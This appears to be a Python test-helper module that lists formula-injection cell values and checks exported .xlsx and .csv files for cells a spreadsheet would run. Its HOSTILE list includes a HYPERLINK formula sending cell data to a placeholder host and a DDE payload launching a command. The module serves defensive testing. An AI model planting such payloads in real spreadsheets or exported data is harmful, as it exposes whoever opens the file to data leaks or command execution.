"""The cells an attacker puts in a registry or an act, and how to check a written spreadsheet for them."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from tracker.spreadsheet_safety import formula_like

# Issue 13, point 1, plus a carriage return: all of these ran as formulas in Excel before.
HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1",
    "-2+3",
    "\t=1+2",
    "\r=3+4",
]


def xlsx_formula_cells(path: Path) -> list[str]:
    """Every cell of every sheet that Excel would evaluate: a formula, or formula-like text
    without the quote prefix that keeps it text."""
    from openpyxl import load_workbook

    found = []
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (formula_like(cell.value) and not cell.quotePrefix):
                    found.append(f"{sheet.title}!{cell.coordinate}={cell.value!r}")
    return found


def xlsx_texts(path: Path) -> set[str]:
    from openpyxl import load_workbook

    book = load_workbook(path)
    return {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str)}


def csv_cells(path: Path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]


NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")


def csv_formula_cells(path: Path) -> list[str]:
    """Cells of a written .csv that a spreadsheet would run (not neutralised by a leading «'»).
    A plain number such as «-29» (days left) is a number, not a formula."""
    return [cell for cell in csv_cells(path) if formula_like(cell) and not NUMBER.fullmatch(cell)]
